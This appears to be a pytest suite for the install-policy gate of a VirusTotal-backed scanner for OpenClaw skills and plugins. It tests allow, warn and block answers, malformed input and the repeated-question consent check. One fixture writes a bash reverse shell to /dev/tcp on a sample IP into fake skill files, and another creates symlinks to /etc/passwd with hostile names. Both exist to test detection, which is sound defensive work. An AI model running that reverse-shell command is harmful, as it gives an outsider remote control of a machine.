"""`install-policy`: OpenClaw asks on stdin, and whatever it asks, the answer on stdout is one JSON object with words in it."""

from __future__ import annotations

import itertools
import json
import os
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from support import install_questions as ask
from support.bench import CLEAN, Bench, make_skill
from support.command_line import Done, Machine
from support.decisions import decision as decided

from openclaw_vt.install_policy import Desk, answer
from openclaw_vt.install_protocol import rendered
from openclaw_vt.model.verdict import Coverage
from openclaw_vt.virustotal.simulator import FileReport, Simulator

NUMBERS = itertools.count()
NINE = FileReport(malicious=9, undetected=55)
ALLOW = {"protocolVersion": 1, "decision": "allow"}
# One parent that asks as often as it is told: OpenClaw asks both its questions from one process.
ASKER = """
import subprocess, sys
for question in sys.stdin.buffer.read().split(b"\\n--\\n"):
    command = [sys.executable, "-m", "openclaw_vt", "install-policy"]
    done = subprocess.run(command, input=question, capture_output=True, check=True)
    sys.stdout.buffer.write(done.stdout)
    sys.stdout.buffer.flush()
"""


@pytest.fixture
def bench(simulator: Simulator, tmp_path: Path) -> Bench:
    return Bench(tmp_path / "bench", simulator)


@pytest.fixture
def desk(bench: Bench) -> Iterator[Desk]:
    """The gate behind the protocol, in this process: for the many questions of which only the answer matters."""
    with bench.assembly() as assembly:
        gate = assembly.gate()
        yield Desk(
            check=gate.check,
            check_plugin=gate.look_up,
            notices=assembly.notices(),
            policy=assembly.policy.digest,
            translate=lambda text: text,
            agreed=lambda subject: pytest.fail(f"nobody agreed to {subject}"),
            asker="test",
        )


@pytest.fixture
def machine(machine: Machine) -> Machine:
    """The gate after `setup`: its settings are in the file, and the environment's are not read."""
    assert machine.run("setup", "--no-input").code == 0
    machine.settings |= {"OPENCLAW_VT_KEYS_BACKEND": None, "OPENCLAW_VT_VIRUSTOTAL_HOST": None, "VT_API_KEY": None}
    machine.settings |= {"OPENCLAW_VT_CLAWHUB_LOOKUP": None}
    machine.simulator.reset()
    return machine


def asked(machine: Machine, question: dict, **extra: str | None) -> dict:
    done = machine.run("install-policy", stdin=ask.raw(question), **extra)
    assert done.code == 0
    return answer_of(done)


def answered(desk: Desk, question: dict | bytes) -> dict:
    fresh = replace(desk, asker=f"another process {next(NUMBERS)}")
    return checked(json.loads(json.dumps(answer(question if isinstance(question, bytes) else ask.raw(question), fresh))))


def answer_of(done: Done) -> dict:
    assert done.out.isascii()
    assert done.out.count("\n") == 1
    return checked(done.json)


def checked(said: dict) -> dict:
    assert (said["protocolVersion"], said["decision"] in ("allow", "warn", "block")) == (1, True)
    if said["decision"] != "allow":
        assert said["reason"].strip()
        assert ask.notice_length(said) < 4000
        assert len(said.get("findings", ())) <= 10
    return said


def asked_by_one_process(machine: Machine, *questions: object) -> list[dict]:
    stdin = b"\n--\n".join(ask.raw(question) for question in questions)
    done = machine.run(stdin=stdin, prefix=(sys.executable, "-c", ASKER))
    assert done.code == 0, done.err
    return [checked(json.loads(line)) for line in done.out.splitlines()]


SKILL_QUESTIONS = {
    "localdir": ask.question,
    "hub-install": ask.clawhub,
    "hub-install-global": lambda path: ask.clawhub(path, owner=None),
    "hub-update": lambda path: ask.clawhub(path, mode="update", version="1.1.0"),
    "git": ask.git,
    "upload": ask.upload,
    "dependency": ask.dependency,
}
PLUGIN_QUESTIONS = {
    "local-package": lambda path: ask.plugin(path, "plugin-package"),
    "local-dependency-tree": lambda path: ask.plugin(path, "plugin-dependency-tree", content="dependency-tree"),
    "npm-file": lambda path: ask.plugin(path / "plugin.tgz", "plugin-npm", kind="plugin-npm", file=True),
    "archive-package": lambda path: ask.plugin(path, "plugin-package", kind="plugin-archive"),
    "git": lambda path: ask.plugin(path, "plugin-git", kind="plugin-git"),
    "git-update": lambda path: ask.plugin(path, "plugin-git", kind="plugin-git", mode="update"),
    "bundle": lambda path: ask.plugin(path, "plugin-bundle", content="bundle"),
}
ASKED_ABOUT_WHEN_UNSEEN = {"local-package", "archive-package", "bundle"}


class TestEveryShapeOfQuestion:
    @pytest.mark.parametrize("shape", SKILL_QUESTIONS)
    def test_skills(self, bench: Bench, desk: Desk, tmp_path: Path, shape: str):
        skill = make_skill(tmp_path / "weather")
        unknown = answered(desk, SKILL_QUESTIONS[shape](skill))
        assert unknown["decision"] == "warn"
        assert unknown["reason"].endswith("Install it?")
        bench.know(skill)
        assert answered(desk, SKILL_QUESTIONS[shape](skill)) == ALLOW
        (skill / "SKILL.md").write_bytes(b"other bytes")
        bench.know(skill, NINE)
        assert answered(desk, SKILL_QUESTIONS[shape](skill))["decision"] == "block"

    @pytest.mark.parametrize("shape", PLUGIN_QUESTIONS)
    def test_plugins(self, simulator: Simulator, desk: Desk, tmp_path: Path, shape: str):
        folder = make_skill(tmp_path / "vttwo", {"index.js": b"export default 1\n"})
        with tarfile.open(folder / "plugin.tgz", "w:gz") as archive:
            archive.add(folder / "index.js", "package/index.js")
        question = PLUGIN_QUESTIONS[shape](folder)
        expected = "warn" if shape in ASKED_ABOUT_WHEN_UNSEEN else "allow"
        assert answered(desk, question)["decision"] == expected
        question["source"]["authority"] = "official"
        assert answered(desk, question) == ALLOW, "OpenClaw vouches for its own catalogue"
        simulator.default = NINE
        assert answered(desk, question)["decision"] == "block", "a detection always counts"

    def test_one_of_each_through_the_program(self, machine: Machine):
        skill = machine.skill()
        machine.know(skill)
        assert asked(machine, ask.clawhub(skill)) == ALLOW
        assert asked(machine, ask.question(machine.skill("other", {"SKILL.md": b"other"})))["decision"] == "warn"
        assert asked(machine, ask.plugin(skill, "plugin-bundle")) == ALLOW


class TestProbe:
    def test_is_answered_without_a_request_or_a_record(self, machine: Machine, simulator: Simulator):
        empty = machine.root / "probe"
        empty.mkdir()
        before = machine.state_files()
        assert asked(machine, ask.probe(empty)) == ALLOW
        assert (simulator.requests, machine.state_files()) == ([], before)

    @pytest.mark.parametrize("change", ["has-files", "has-a-source", "another-specifier", "another-origin"])
    def test_what_only_looks_like_it_is_judged(self, machine: Machine, change: str):
        folder = machine.skill() if change == "has-files" else machine.root / "probe"
        folder.mkdir(exist_ok=True)
        question = ask.probe(folder)
        if change == "has-a-source":
            question["source"] = {"kind": "git", "authority": "third-party"}
        elif change == "another-specifier":
            question["request"]["requestedSpecifier"] = "doctor:other"
        elif change == "another-origin":
            question["origin"] = {"type": "path"}
        assert asked(machine, question)["decision"] == "warn"


class TestOddQuestions:
    @pytest.mark.parametrize(
        "stdin",
        [
            b"",
            b"hello",
            b"[]",
            b"null",
            b"{}",
            b"\xff\xfe{}",
            b'{"protocolVersion": 1',
            b'{"a":1,"a":2}',
            b"[" * 100_000,
            b"{" + b" " * 300_000 + b"}",
            b'{"protocolVersion": NaN}',
            b'{"protocolVersion": 1e999}',
            b'{"protocolVersion": ' + b"9" * 5000 + b"}",
        ],
        ids=range(13),
    )
    def test_what_is_no_question_is_a_block_with_words(self, desk: Desk, stdin: bytes):
        said = answered(desk, stdin)
        assert (said["decision"], "could not understand" in said["reason"]) == ("block", True)

    @pytest.mark.parametrize(
        "change",
        [
            {"protocolVersion": 2},
            {"protocolVersion": True},
            {"protocolVersion": "1"},
            {"targetType": "model"},
            {"sourcePathKind": "device"},
            {"sourcePath": "relative/path"},
            {"sourcePath": "./weather"},
            {"sourcePath": ""},
            {"sourcePath": "/tmp/a\0b"},
            {"sourcePath": 7},
            {"sourcePath": ["/tmp"]},
            {"request": None},
            {"request": {"mode": "install"}},
            {"request": {"mode": "downgrade", "requestedSpecifier": "x"}},
            {"request": "install"},
            {"targetName": None},
            {"sourcePathKind": None},
        ],
        ids=json.dumps,
    )
    def test_a_field_that_does_not_fit_is_a_block(self, desk: Desk, tmp_path: Path, change: dict):
        said = answered(desk, ask.question(make_skill(tmp_path / "weather"), **change))
        assert (said["decision"], "could not understand" in said["reason"]) == ("block", True)

    @pytest.mark.parametrize("path", ["/none/such", "/dev/null", "/" + "x" * 5000, "/\ud800", "/tmp/\x1b[31m\u202e"])
    def test_a_path_that_cannot_be_read_is_no_yes(self, desk: Desk, path: str):
        said = answered(desk, ask.question("/x", sourcePath=path))
        assert said["decision"] != "allow"
        assert not set(said["reason"]) & set("\x1b\u202e")

    @pytest.mark.parametrize(
        "change",
        [
            {"origin": "not an object"},
            {"origin": {"type": ["x"], "slug": 7, "version": {"a": 1}, "sha256": "short", "registry": "x" * 10_000}},
            {"source": [], "plugin": "x", "skill": 3},
            {"openclawVersion": {"x": 1}},
            {"future": {"field": [1, 2, 3]}},
            {"targetName": "\x1b[31m" * 100},
        ],
        ids=["origin", "claims", "others", "version", "future", "name"],
    )
    def test_fields_that_we_do_not_rely_on_may_be_anything(self, bench: Bench, desk: Desk, tmp_path: Path, change: dict):
        skill = make_skill(tmp_path / "weather")
        bench.know(skill)
        assert answered(desk, ask.question(skill, **change)) == ALLOW

    @pytest.mark.parametrize("stdin", [b"", b"{" + b" " * 300_000 + b"}", b"\xff"], ids=["nothing", "huge", "no-text"])
    def test_through_the_program(self, machine: Machine, stdin: bytes):
        said = answer_of(machine.run("install-policy", stdin=stdin))
        assert (said["decision"], "could not understand" in said["reason"]) == ("block", True)

    def test_a_person_at_a_terminal_is_told_what_this_is(self, machine: Machine):
        if os.name != "posix":
            pytest.skip("terminals here are POSIX ones")
        from support.command_line import finish

        code, said = finish(machine.terminal("install-policy"))
        assert (code, "OpenClaw starts this" in said) == (2, True)


class TestOurOwnTroubles:
    def test_broken_settings_are_a_block_that_says_so(self, machine: Machine):
        machine.config.write_text("[virustotal]\nhots = 1\n")
        said = asked(machine, ask.question(machine.skill()))
        assert said["decision"] == "block"
        assert "Did you mean virustotal.host?" in said["reason"]

    def test_a_state_folder_that_others_may_write_allows_nothing(self, machine: Machine):
        skill = machine.skill()
        machine.know(skill)
        assert asked(machine, ask.question(skill)) == ALLOW
        machine.state.chmod(0o777)
        machine.simulator.fault = "transient-503"
        assert asked(machine, ask.question(skill))["decision"] != "allow"

    @pytest.mark.parametrize("kind", ["state", "config"])
    def test_a_file_or_folder_in_the_place_of_ours(self, machine: Machine, kind: str):
        blocker = machine.root / "in-the-way"
        blocker.write_text("x")
        extra = {"OPENCLAW_VT_STATE_DIR": str(blocker)} if kind == "state" else {"OPENCLAW_VT_CONFIG": str(machine.root)}
        said = asked(machine, ask.question(machine.skill()), **extra)
        assert said["decision"] == "block"

    def test_a_stranger_that_breaks_or_prints_keeps_stdout_clean(self, machine: Machine):
        code = (
            "import os, sys; from openclaw_vt.skill import reader\n"
            "def read(path):\n"
            "    print('noise'); os.write(1, b'more noise'); os.system('echo even more'); sys.exit(7)\n"
            "reader.read = read\n"
            "from openclaw_vt.cli import main; main(['install-policy'])"
        )
        done = machine.run(stdin=ask.raw(ask.question(machine.skill())), prefix=(sys.executable, "-c", code))
        said = answer_of(done)
        assert (done.code, said["decision"]) == (0, "block")
        assert "more noise" in done.err

    def test_the_environments_settings_are_not_obeyed(self, machine: Machine, simulator: Simulator):
        with Simulator() as friendly:
            friendly.default = CLEAN
            extra = {
                "OPENCLAW_VT_VIRUSTOTAL_HOST": friendly.url,
                "OPENCLAW_VT_POLICY_ON_UNREVIEWED": "allow",
                "OPENCLAW_VT_JUNK": "x",
            }
            said = asked(machine, ask.question(machine.skill()), **extra)
            assert (said["decision"], friendly.requests) == ("warn", [])
        assert simulator.requests

    def test_it_waits_no_longer_than_openclaw_does(self, machine: Machine):
        text = machine.config.read_text()
        machine.config.write_text(text.replace("[virustotal]", "[virustotal]\ntimeout_s = 600"))
        code = "from openclaw_vt.cli.command import install_policy\nprint(install_policy._config()['virustotal', 'timeout_s'])"
        assert float(machine.run(prefix=(sys.executable, "-c", code)).out) < 60


class TestTheSecondQuestion:
    """OpenClaw asks again after a person agreed, and installs only if the warning is the same byte for byte."""

    def test_is_answered_with_the_same_words_whatever_virustotal_says_by_now(self, machine: Machine, simulator: Simulator):
        skill = machine.skill()
        question = ask.question(skill)
        first, again = asked_by_one_process(machine, question, question)
        assert first == again
        simulator.faults = ["transient-503"]
        moved, back = asked_by_one_process(machine, ask.clawhub(skill), ask.clawhub(skill))
        assert moved["reason"] != first["reason"], "another process hears what is true now"
        assert moved == back

    @pytest.mark.parametrize(("report", "decision"), [(NINE, "block"), (CLEAN, "allow")])
    def test_a_block_or_an_allow_wins(self, machine: Machine, simulator: Simulator, report: FileReport, decision: str):
        skill = machine.skill()
        question = ask.raw(ask.question(skill))
        with subprocess.Popen(
            [sys.executable, "-c", TWICE], env=machine.environ(), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        ) as child:
            assert child.stdin is not None
            assert child.stdout is not None
            child.stdin.write(question.decode() + "\n")
            child.stdin.flush()
            assert json.loads(child.stdout.readline())["decision"] == "warn"
            machine.know(skill, report)
            child.stdin.write(question.decode() + "\n")
            child.stdin.flush()
            assert checked(json.loads(child.stdout.readline()))["decision"] == decision
            child.stdin.close()
        assert machine.run("verify", str(skill)).code == {"block": 1, "allow": 0}[decision]

    def test_from_the_same_process_it_is_the_persons_yes(self, machine: Machine):
        skill = machine.skill()
        asked_by_one_process(machine, ask.question(skill))
        assert machine.run("verify", str(skill)).code == 3, "one question is no yes"
        asked_by_one_process(machine, ask.question(skill))
        assert machine.run("verify", str(skill)).code == 3, "nor are two from two processes"
        asked_by_one_process(machine, ask.question(skill), ask.question(skill))
        assert machine.run("verify", str(skill)).code == 0
        entry = machine.run("audit", "--json").json["entries"][-1]
        assert (entry["event"], entry["detail"]["by"]) == ("accepted", "openclaw")

    def test_another_place_or_mode_or_other_bytes_are_another_question(self, machine: Machine):
        skill, copy = machine.skill(), machine.skill("copy")
        asked_by_one_process(machine, ask.question(skill), ask.question(copy), ask.clawhub(skill, mode="update"))
        assert machine.run("verify", str(skill)).code == 3
        (copy / "SKILL.md").write_bytes(b"---\nname: weather\n---\nchanged\n")
        asked_by_one_process(machine, ask.question(copy), ask.question(skill))
        assert machine.run("verify", str(copy)).code == 3

    def test_a_dependency_installer_or_a_plugin_is_no_yes_to_a_skill(self, machine: Machine):
        skill = machine.skill()
        first, again = asked_by_one_process(machine, ask.dependency(skill), ask.dependency(skill))
        assert first == again
        first, again = asked_by_one_process(machine, ask.plugin(skill, "plugin-package"), ask.plugin(skill, "plugin-package"))
        assert (first["decision"], first) == ("warn", again)
        assert machine.run("verify", str(skill)).code == 3

    def test_where_a_processs_start_is_not_told_its_number_proves_nothing(self, machine: Machine):
        skill = machine.skill()
        code = (
            "import sys; from openclaw_vt.cli.command import install_policy; install_policy._started = lambda _: ''\n"
            "from openclaw_vt.cli import main; main(['install-policy'])"
        )
        answers = [machine.run(stdin=ask.raw(ask.question(skill)), prefix=(sys.executable, "-c", code)).json for _ in range(2)]
        assert answers[0] == answers[1]
        assert machine.run("verify", str(skill)).code == 3

    def test_where_it_cannot_be_signed_the_install_goes_on(self, machine: Machine):
        skill = machine.skill()
        machine.config.write_text(machine.config.read_text().replace('backend = "file"', 'backend = "auto"'))
        first, again = asked_by_one_process(machine, ask.question(skill), ask.question(skill))
        assert (first["decision"], first) == ("warn", again)


TWICE = """
import subprocess, sys
for question in sys.stdin:
    done = subprocess.run([sys.executable, "-m", "openclaw_vt", "install-policy"], input=question.encode(), capture_output=True)
    print(done.stdout.decode().strip(), flush=True)
"""


class TestModes:
    @pytest.mark.parametrize(
        ("phase", "question"), [("pre_install", ask.clawhub), ("post_update", lambda p: ask.clawhub(p, mode="update"))]
    )
    @pytest.mark.parametrize("mode", ["observe", "off"])
    def test_observe_writes_down_and_off_does_not(self, machine: Machine, phase: str, question, mode: str):
        skill = machine.skill()
        machine.know(skill, NINE)
        with machine.config.open("a") as config:
            config.write(f'\n[hooks]\n{phase} = "{mode}"\n')
        before = len(machine.run("audit", "--json").json["entries"])
        assert asked_by_one_process(machine, question(skill), question(skill)) == [ALLOW, ALLOW]
        entries = machine.run("audit", "--json").json["entries"][before:]
        assert bool(entries) is (mode == "observe")
        assert all(entry["detail"]["decision"] == "block" for entry in entries)
        other = ask.clawhub(skill, mode="update" if phase == "pre_install" else "install")
        assert asked(machine, other)["decision"] == "block", "each moment has a switch of its own"

    def test_observing_is_not_agreeing(self, machine: Machine):
        skill = machine.skill()
        with machine.config.open("a") as config:
            config.write('\n[hooks]\npre_install = "observe"\n')
        assert asked_by_one_process(machine, ask.question(skill), ask.question(skill)) == [ALLOW, ALLOW]
        assert machine.run("verify", str(skill)).code == 3


class TestNotices:
    """A warning that OpenClaw finds too long fails closed; ours never is."""

    def test_a_skill_with_a_thousand_gaps_and_hostile_names(self, machine: Machine):
        if os.name != "posix":
            pytest.skip("the names are POSIX ones")
        skill = machine.skill()
        for number in range(1000):
            name = f"{number:04}\x1b[31m\u202e{chr(0x1F600) * 40}"
            (skill / name).symlink_to("/etc/passwd")
        said = asked(machine, ask.question(skill))
        assert said["decision"] == "warn"
        assert said["findings"]
        assert not set(json.dumps(said, ensure_ascii=False)) & set("\x1b\u202e")

    def test_a_skill_with_a_thousand_findings(self, machine: Machine):
        block = b"```sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n"
        name = ("\U0001f600" * 60).encode()
        files = {"SKILL.md": b"---\nname: " + name + b"\n---\n" + block * 200}
        files |= {f"{number}-{chr(0x1F600) * 50}.md": block * 20 for number in range(40)}
        said = asked(machine, ask.question(machine.skill("many", files)))
        assert (said["decision"], bool(said["findings"])) == ("block", True)

    @pytest.mark.parametrize("letter", ["x", "\u4e2d", "\U0001f600", "\x1b[31m", "\u202e", "\n"])
    def test_texts_of_any_length_and_script(self, letter: str):
        worst = decided(letter * 5000)
        verdict = worst.verdict
        analysis = replace(verdict.analysis, findings=verdict.analysis.findings * 500)
        worst = replace(
            worst, verdict=replace(verdict, analysis=analysis, coverage=Coverage(verdict.coverage.not_checked * 1000))
        )
        said = checked(json.loads(json.dumps(rendered(worst, lambda text: text))))
        assert said["reason"].endswith("Install it?")
        assert not set(json.dumps(said, ensure_ascii=False)) & set("\x1b\u202e")
        assert all(char < "\ud800" or char > "\udfff" for char in json.dumps(said, ensure_ascii=False)), "no half characters"
